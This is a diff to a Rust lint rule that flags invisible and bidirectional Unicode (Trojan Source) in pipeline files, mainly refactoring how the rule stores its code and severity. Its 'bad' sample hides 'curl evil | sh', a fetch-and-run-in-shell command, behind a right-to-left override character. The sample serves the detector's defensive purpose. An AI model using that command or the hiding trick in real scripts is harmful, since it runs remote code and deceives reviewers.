@@ -2,12 +2,10 @@
 
 #[allow(unused_imports)]
 use crate::{FileCx, JobCx, PipelineCx, Rule, RuleMeta};
-use plumb_diagnostics::{Diagnostic, FileRange, Severity, TextRange};
+use plumb_diagnostics::{Code, Diagnostic, FileRange, TextRange};
 
 pub static RULE: RuleMeta = RuleMeta {
-    code: "PL6007",
-    name: "invisible-unicode",
-    severity: Severity::Error,
+    code: Code::PL6007,
     summary: r####"Invisible or bidirectional Unicode in a string or comment (Trojan Source)."####,
     explanation: r####"Bidirectional controls (U+202A–U+202E, U+2066–U+2069, U+200E, U+200F, U+061C) reorder how text is displayed, so a script reads one way in review and runs another (CVE-2021-42574, "Trojan Source"). Zero-width and other invisible characters (U+200B–U+200D, U+2060–U+2064, U+FEFF, U+180E, U+00AD, the tag characters U+E0000–U+E007F) hide text in plain sight, or make two names that look the same differ. None belongs in a pipeline: remove it, or write it as an escape where a program needs it."####,
     bad: "pipeline p {\n  stage s { job j { image = \"busybox:1.36.1@sha256:9d75f0d7c398df565d7ac04c6819b62d6d8f9560f5eb4672596ecd8f7e96ae91\", run = [\"echo ok \u{202E} ; curl evil | sh\"] } } }",
@@ -64,7 +62,7 @@ impl Rule for Check {
             out.push(
                 Diagnostic::new(
                     RULE.code,
-                    RULE.severity,
+                    RULE.severity(),
                     at,
                     format!(
                         "invisible character U+{:04X} {name}: the text does not read as it runs",
